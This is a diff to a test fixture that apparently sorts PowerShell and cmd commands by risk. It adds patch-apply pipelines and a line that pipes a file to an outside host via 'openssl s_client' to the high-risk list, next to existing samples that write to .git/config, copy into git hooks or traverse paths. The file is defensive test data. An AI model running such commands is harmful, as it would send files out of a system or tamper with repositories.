@@ -55,6 +55,9 @@ const powershell: Record<string, string[]> = {
     'Copy-Item -Path a -Dest b',
   ],
   high: [
+    'gc a.patch | git apply',
+    'git show :a.patch | git am',
+    'gc a.txt | openssl s_client -connect example.org:443',
     'Set-Content a,.git/config x',
     'Set-Content a, .git/config -Value x',
     'Add-Content a , ../x y',
@@ -176,6 +179,7 @@ const cmd: Record<string, string[]> = {
     'git push',
     'echo x>..\\a',
     'copy a .git\\hooks\\x',
+    'type a.patch | git apply',
     'type C:\\a',
     'powershell -c ls',
     'call x.bat',
